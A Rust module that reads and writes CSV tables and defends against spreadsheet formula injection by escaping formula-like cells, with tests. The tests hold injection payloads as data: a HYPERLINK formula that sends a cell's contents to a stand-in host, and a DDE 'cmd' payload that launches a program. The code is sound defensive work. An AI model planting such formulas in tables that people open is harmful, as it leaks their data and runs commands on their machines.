//! Tables in the form that spreadsheets read and write (RFC 4180), with commas, semicolons or tabs.
//!
//! A cell that would make a file of text look like none, since it holds a zero byte, is written as
//! the formula of a text, `="…"`, with the escapes of JSON. Spreadsheets write `="0123"` themselves,
//! for what is not to become a number.
//!
//! A cell in which a spreadsheet would see a formula begins with an apostrophe. A workspace has many
//! authors, and a formula runs programs and asks for pages on the machine of whoever opens the table.
//!
//! Invariant: `parse(&write(rows))` gives the rows back, whatever their cells hold.

use super::Complaint;
use crate::{ImportError, number};

/// A row and the line of the file where it begins, counted from 1.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(super) struct Row {
    pub(super) line: usize,
    pub(super) cells: Vec<String>,
}

impl Row {
    /// Whether something stands in it under no column of the header.
    pub(super) fn outgrows(&self, header: &Row) -> bool {
        let mut beyond = self.cells.iter().skip(header.cells.len());
        beyond.any(|cell| !cell.trim().is_empty())
    }

    /// That it has more cells than there are columns: a cell was not quoted, perhaps.
    pub(super) fn too_long(&self, header: &Row) -> ImportError {
        let what = Complaint::new("import.problem.cells").with("n", self.cells.len().to_string());
        ImportError::Invalid {
            line: self.line,
            place: Vec::new(),
            problem: what.with("columns", header.cells.len().to_string()),
        }
    }
}

/// Reads the rows; empty ones are left out.
///
/// # Errors
///
/// A quoted cell that never ends.
pub(super) fn parse(text: &str) -> Result<Vec<Row>, ImportError> {
    let (separator, table, mut line) = match announced(text) {
        Some((separator, table)) => (separator, table, 2),
        None => (separator(text), text, 1),
    };
    let mut rows = Vec::new();
    let mut row = Row {
        line,
        cells: Vec::new(),
    };
    let mut cell = String::new();
    let mut characters = table.chars().peekable();
    while let Some(character) = characters.next() {
        match character {
            '"' if cell.is_empty() => {
                let opened = line;
                loop {
                    match characters.next() {
                        Some('"') if characters.peek() == Some(&'"') => {
                            characters.next();
                            cell.push('"');
                        }
                        Some('"') => break,
                        Some(within) => {
                            line += usize::from(within == '\n');
                            cell.push(within);
                        }
                        None => {
                            return Err(ImportError::Invalid {
                                line: opened,
                                place: vec![
                                    Complaint::new("import.place.column")
                                        .with("name", (row.cells.len() + 1).to_string()),
                                ],
                                problem: Complaint::new("import.problem.open_quote"),
                            });
                        }
                    }
                }
                // An empty quoted cell is empty like any other; what follows a quotation belongs to it.
            }
            _ if character == separator => row.cells.push(plain(std::mem::take(&mut cell))),
            '\r' if characters.peek() == Some(&'\n') => {}
            '\n' | '\r' => {
                line += 1;
                row.cells.push(plain(std::mem::take(&mut cell)));
                let next = Row {
                    line,
                    cells: Vec::new(),
                };
                keep(std::mem::replace(&mut row, next), &mut rows);
            }
            other => cell.push(other),
        }
    }
    row.cells.push(plain(cell));
    keep(row, &mut rows);
    Ok(rows)
}

/// Whether a spreadsheet would reckon with the cell, apart from apostrophes in front of it: it begins
/// like a formula and is neither a number nor a flag (`=5`, `=true`), nor a mere list's dash or an
/// account's name, which ask for nothing.
fn is_formula(cell: &str) -> bool {
    let text = cell.trim_start_matches('\'').trim_start();
    // The wide forms count in some countries.
    match text.chars().next() {
        Some('=' | '\u{ff1d}') => {
            let rest = text.trim_start_matches(['=', '\u{ff1d}']);
            !matches!(rest, "true" | "false") && number::parse(rest).is_none()
        }
        Some('+' | '-' | '@' | '\u{ff0b}' | '\u{ff0d}' | '\u{ff20}') => {
            text.contains(['(', '|', '!', '\u{ff08}', '\u{ff01}'])
        }
        _ => false,
    }
}

/// What a cell says: what stands behind the apostrophe that keeps it from being a formula, the text of
/// a formula that is nothing but a text, else what stands there.
fn plain(cell: String) -> String {
    if let Some(kept) = cell.strip_prefix('\'').filter(|kept| is_formula(kept)) {
        return kept.to_owned();
    }
    let text = cell.strip_prefix('=').filter(|text| text.starts_with('"'));
    match text.map(serde_json::from_str::<String>) {
        Some(Ok(text)) => text,
        _ => cell,
    }
}

fn keep(row: Row, rows: &mut Vec<Row>) {
    if row.cells.iter().any(|cell| !cell.is_empty()) {
        rows.push(row);
    }
}

/// The separator that a line before the table names, as spreadsheets write and read it: `sep=;`. With
/// the table behind that line.
fn announced(text: &str) -> Option<(char, &str)> {
    let mut rest = text.strip_prefix("sep=")?.chars();
    let separator = rest
        .next()
        .filter(|found| [',', ';', '\t'].contains(found))?;
    let table = rest.as_str();
    let behind = table.strip_prefix("\r\n");
    let behind = behind.or_else(|| table.strip_prefix(['\n', '\r']))?;
    Some((separator, behind))
}

/// The separator that the first line, outside of quotation marks, has most of.
fn separator(text: &str) -> char {
    let mut counts = [(',', 0_usize), (';', 0), ('\t', 0)];
    let mut quoted = false;
    for character in text.chars() {
        match character {
            '"' => quoted = !quoted,
            '\n' | '\r' if !quoted => break,
            _ if !quoted => {
                for (separator, count) in &mut counts {
                    *count += usize::from(character == *separator);
                }
            }
            _ => {}
        }
    }
    let mut best = (',', 0);
    for (separator, count) in counts {
        if count > best.1 {
            best = (separator, count);
        }
    }
    best.0
}

/// Whether the text is a table of several columns, one of them called like this.
pub(super) fn has_column(text: &str, names: &[&str]) -> bool {
    let text = announced(text).map_or(text, |(_, table)| table);
    let first = text.lines().find(|line| !line.trim().is_empty());
    let Ok(rows) = parse(first.unwrap_or_default()) else {
        return false;
    };
    let is_named = |cell: &String| {
        names
            .iter()
            .any(|name| cell.trim().eq_ignore_ascii_case(name))
    };
    rows.first()
        .is_some_and(|row| row.cells.len() > 1 && row.cells.iter().any(is_named))
}

/// Adds a row, its cells quoted where they have to be.
pub(super) fn write<'a>(table: &mut String, cells: impl IntoIterator<Item = &'a str>) {
    for (at, cell) in cells.into_iter().enumerate() {
        if at > 0 {
            table.push(',');
        }
        let marked;
        let cell = if cell.contains('\0') {
            marked = text_formula(cell);
            &marked
        } else if is_formula(cell) {
            marked = format!("'{cell}");
            &marked
        } else {
            cell
        };
        // A first cell that is empty would make a row of one column an empty line.
        let special =
            cell.contains(['"', ',', ';', '\t', '\n', '\r']) || cell.is_empty() && at == 0;
        if special {
            table.push('"');
            table.push_str(&cell.replace('"', "\"\""));
            table.push('"');
        } else {
            table.push_str(cell);
        }
    }
    table.push_str("\r\n");
}

/// The formula of a text. No quotation mark stands within, where a spreadsheet would let the text end.
fn text_formula(text: &str) -> String {
    // Text can always be written as JSON.
    let json = serde_json::to_string(text).unwrap_or_default();
    let within = json.get(1..json.len() - 1).unwrap_or_default();
    format!("=\"{}\"", within.replace("\\\"", "\\u0022"))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cells(text: &str) -> Vec<Vec<String>> {
        let rows = parse(text).unwrap();
        rows.into_iter().map(|row| row.cells).collect()
    }

    #[test]
    fn commas_semicolons_and_tabs_separate() {
        let expected = [["a", "b"], ["1,5", "2"]];
        assert_eq!(cells("a;b\r\n1,5;2\r\n"), expected);
        assert_eq!(cells("a\tb\n1,5\t2"), expected);
        assert_eq!(cells("a,b\n\"1,5\",2\n\n"), expected);
    }

    #[test]
    fn a_line_before_the_table_names_the_separator() {
        for (text, expected) in [
            ("sep=;\r\na,1;b\r\nc;d", [["a,1", "b"], ["c", "d"]]),
            ("sep=\t\na\tb\nc\td\n", [["a", "b"], ["c", "d"]]),
            ("sep=,b\nc,d", [["sep=", "b"], ["c", "d"]]),
        ] {
            assert_eq!(cells(text), expected);
        }
        assert_eq!(parse("sep=;\na;b").unwrap()[0].line, 2);
        assert!(has_column("sep=;\nid;text\n", &["id"]));
    }

    #[test]
    fn quotation_marks_hold_lines_and_each_other() {
        let rows = parse("a,b\n\"one\ntwo \"\"2\"\"\",x\nc,d\n").unwrap();
        assert_eq!(rows[1].cells, ["one\ntwo \"2\"", "x"]);
        assert_eq!((rows[1].line, rows[2].line), (2, 4));
    }

    #[test]
    fn a_quotation_without_end_is_named_with_its_line() {
        let error = parse("a,b\nc,\"d\ne").unwrap_err().to_string();
        assert!(
            error.contains("Line 2") && error.contains("column 2"),
            "{error}"
        );
    }

    #[test]
    fn a_zero_byte_is_written_as_a_formula_and_read_back() {
        let mut table = String::new();
        let row = ["a\0b", "=\"0123\"", "=1+1", "=\"open"];
        write(&mut table, row);
        assert!(!table.contains('\0'), "{table}");
        assert_eq!(cells(&table), [row]);
        // As spreadsheets write a text of digits.
        assert_eq!(cells("a,b\n=\"0123\",2"), [["a", "b"], ["0123", "2"]]);
    }

    #[test]
    fn what_a_spreadsheet_would_reckon_with_begins_with_an_apostrophe() {
        let formulas = [
            "=HYPERLINK(\"http://x.example?\"&A1)",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(A1)",
            " \t=1+1",
            "\u{ff1d}A1",
            "'=1+1",
            "=\"0123\"",
        ];
        for text in formulas {
            let mut table = String::new();
            write(&mut table, [text, "b"]);
            assert!(table.trim_start_matches('"').starts_with('\''), "{table}");
            assert_eq!(cells(&table), [[text, "b"]]);
        }
        let row = [
            "-5",
            "=5",
            "=true",
            "- a list",
            "@anna",
            "+49 30",
            "'twas",
            "1 = 2 (!)",
        ];
        let mut table = String::new();
        write(&mut table, row);
        assert_eq!(table.trim_end(), row.join(","));
        assert_eq!(cells(&table), [row]);
    }

    #[test]
    fn a_text_in_a_formula_cannot_end_before_the_formula() {
        let row = ["\0\"&cmd|'/C calc'!A0&\"", "\0\\"];
        let mut table = String::new();
        write(&mut table, row);
        assert_eq!(cells(&table), [row]);
        let formula = &parse(&table.replacen('=', "", 1)).unwrap()[0].cells[0];
        assert_eq!(formula.matches('"').count(), 2, "{formula}");
    }

    #[test]
    fn what_is_written_reads_back() {
        arbtest::arbtest(|u| {
            let columns = u.int_in_range(1..=4)?;
            let mut rows: Vec<Vec<String>> = Vec::new();
            for _ in 0..u.int_in_range(1..=4)? {
                let mut row = Vec::new();
                for _ in 0..columns {
                    let begin = u.choose(&["", "=", "'", "'=", "-(", "=\""])?;
                    row.push(format!("{begin}{}", u.arbitrary::<&str>()?));
                }
                rows.push(row);
            }
            // The first line tells the separator, as a header does.
            rows.insert(0, vec!["header".to_owned(); columns]);
            let mut table = String::new();
            for row in &rows {
                write(&mut table, row.iter().map(String::as_str));
            }
            rows.retain(|row| row.iter().any(|cell| !cell.is_empty()));
            assert_eq!(cells(&table), rows);
            assert!(!table.contains('\0'));
            Ok(())
        })
        .budget_ms(500);
    }

    #[test]
    fn any_text_is_read_or_refused() {
        arbtest::arbtest(|u| {
            let text: String = u.arbitrary()?;
            let _ = parse(&text);
            Ok(())
        })
        .budget_ms(300);
    }
}
